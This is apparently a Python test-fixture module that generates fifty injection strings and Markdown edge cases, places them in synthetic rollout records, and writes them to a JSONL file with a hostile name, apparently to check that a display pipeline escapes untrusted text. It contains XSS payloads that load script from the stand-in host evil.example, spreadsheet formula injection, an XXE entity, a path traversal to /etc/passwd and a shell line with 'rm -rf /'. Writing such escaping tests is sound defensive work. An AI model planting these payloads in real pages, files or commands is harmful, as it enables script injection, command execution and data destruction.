"""Fifty texts that mean harm where they are not taken for text, and files of rollouts that hold them everywhere."""

from __future__ import annotations

import json
from collections.abc import Iterable
from pathlib import Path
from typing import Any

HOST = "http" + "://evil.example"
CALL = "alert(document.domain)"

TEXTS: tuple[str, ...] = (
    f"<script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"</title><script>{CALL}</script>",
    f"</style><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    f"--><script>{CALL}</script><!--",
    f"]]><script>{CALL}</script><![CDATA[",
    f"<script src='{HOST}/x.js'></script>",
    f"<script type=module>import '{HOST}/x.mjs'</script>",
    f"<img src=x onerror={CALL}>",
    f'"><img src=x onerror="{CALL}">',
    f"'><img src=x onerror='{CALL}'>",
    f"<svg onload={CALL}>",
    f"</svg><svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><a xlink:href='javascript:{CALL}'><text>x</text></a></svg>",
    f"<foreignObject><iframe srcdoc='<script>{CALL}</script>'></iframe></foreignObject>",
    f"<iframe src='javascript:{CALL}'></iframe>",
    f"<iframe src='{HOST}'></iframe>",
    f"<object data='{HOST}/x.swf'></object>",
    f"<embed src='{HOST}/x.swf'>",
    f"<link rel=stylesheet href='{HOST}/x.css'>",
    f"<meta http-equiv=refresh content='0;url={HOST}'>",
    f"<base href='{HOST}/'>",
    f"<form action='{HOST}'><input name=x><button>go</button></form>",
    f"<a href='{HOST}' onclick={CALL}>click me</a>",
    f"<a href='data:text/html,<script>{CALL}</script>'>data</a>",
    f"<body onload={CALL}>",
    f"<details open ontoggle={CALL}>x</details>",
    f"<video><source onerror={CALL}></video>",
    f"<math><mtext></mtext><script>{CALL}</script></math>",
    f"<style>@import '{HOST}/x.css';</style>",
    f"<div style=\"background:url('{HOST}/x.png')\">x</div>",
    f'<!DOCTYPE x [<!ENTITY e SYSTEM "{HOST}/e">]><x>&e;</x>',
    f"[click](javascript:{CALL})",
    f"![x]({HOST}/x.png)",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    f"${{{CALL}}}",
    "&lt;b&gt;already escaped&amp;lt;/b&amp;gt;",
    f'=HYPERLINK("{HOST}","click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "  =1+1",
    "abc\u202egpj.exe\u202c \u2066hidden\u2069 \u200b\ufeff",
    "\u0000\u0001\u0008\u000b\u000c\u001b[31mred\u001b[0m\u007f\u0085\ufffe\uffff",
    "\u2028line\u2029paragraph\rreturn\nfeed",
    "x" * 100_000 + f"<script>{CALL}</script>",
)
assert len(TEXTS) == len(set(TEXTS)) == 50

MARKDOWN: tuple[str, ...] = (
    ":material/delete: :smile: :streamlit:",
    ":red[taken over] :blue-background[x] :gray-badge[y] :small[z]",
    "$\\href{javascript:" + CALL + "}{x}$ and $$\\frac{1}{2}$$ and \\(x\\)",
    "# a heading\n\nunder it",
    "heading\n=======",
    "> a quotation",
    "- a list\n- of two",
    "1. first\n2. second",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "```js\ncode()\n```",
    "`code` **strong** _leaning_ ~~struck~~",
    "    code by its four spaces",
    f"<{HOST}> {HOST} www.evil.example someone@evil.example",
    f"[one][two]\n\n[two]: {HOST} 'title'",
    "note[^1]\n\n[^1]: below",
    "---",
    "&#60;img src=x onerror=alert(1)&#62; &nbsp; &copy;",
    "%3Cscript%3Ealert(1)%3C/script%3E %s %(x)s {0.__class__} {x!r}",
    "\\u003cscript\\u003e \\x3cscript\\x3e \\<b\\>",
    "<!-- hidden --> shown",
    "a\ud800lone\udfffhalf",
    "null",
    "NaN",
    "../../etc/passwd",
    "'; rm -rf / #' \"$(touch x)\" `id`",
)
"""What Markdown, its extensions on the pages, shells and readers could make something of."""

EVERY: tuple[str, ...] = TEXTS + MARKDOWN
assert len(EVERY) == len(set(EVERY)) == 75


def rows() -> list[dict[str, object]]:
    """Two tasks with three rollouts each through fifty texts: as observations, actions, replies, tasks and rollouts.

    One rollout succeeds, one fails at the end, one is lost at the tenth step; so there are good steps in failures.
    """
    made: list[dict[str, object]] = []
    for task in (TEXTS[0], TEXTS[9]):
        for rollout, outcome, length in ((f"good {TEXTS[1]}", 1.0, 50), (f"=bad {TEXTS[10]}", 0.0, 50), ("+early", 0.0, 10)):
            for step, text in enumerate(TEXTS[:length]):
                ends = {"next_observation": TEXTS[20 + int(outcome)]} if step == length - 1 else {}
                made.append(
                    {
                        "group_id": task, "rollout_id": rollout, "step": step, "observation": text,
                        "action": TEXTS[(step + 7) % 50], "action_text": TEXTS[(step + 13) % 50], "outcome": outcome, **ends,
                    }
                )  # fmt: skip
    return made


def everywhere() -> list[dict[str, object]]:
    """Each text as an observation, an action, a reply, a task, a rollout, a last observation, a task family and metadata.

    One long task of three rollouts through all of them, the last of which fails early, and for each text a task of its name
    with two rollouts of one step, one of which succeeds.
    """
    n, made = len(EVERY), []
    for rollout, outcome, length in (("through", 1.0, n), (EVERY[10], 0.0, n), (EVERY[40], 0.0, n // 3)):
        made += [_row("long", rollout, step, length, step, outcome) for step in range(length)]
    for number, task in enumerate(EVERY):
        made += [_row(task, EVERY[(number + 1 + k) % n], 0, 1, number, float(k)) for k in range(2)]
    return made


def _row(task: str, rollout: str, step: int, length: int, number: int, outcome: float) -> dict[str, Any]:
    other = [EVERY[(number + by) % len(EVERY)] for by in (7, 13, 31)]
    row: dict[str, Any] = {
        "group_id": task, "rollout_id": rollout, "step": step, "observation": EVERY[number], "action": other[0],
        "action_text": other[1], "outcome": outcome, "task_family": EVERY[number - step], "metadata": {EVERY[number]: other[2]},
    }  # fmt: skip
    return row | ({"next_observation": EVERY[-1 - number]} if step == length - 1 else {})


def write(folder: Path, name: str = "=cmd <img src=x onerror=alert(1)> \u202egpj.jsonl", of: Iterable[Any] = ()) -> Path:
    """Rows (`rows()` if none are given) as a canonical file with a name that means harm too."""
    path = folder / name
    path.write_text("".join(json.dumps(row) + "\n" for row in of or rows()), encoding="utf-8")
    return path
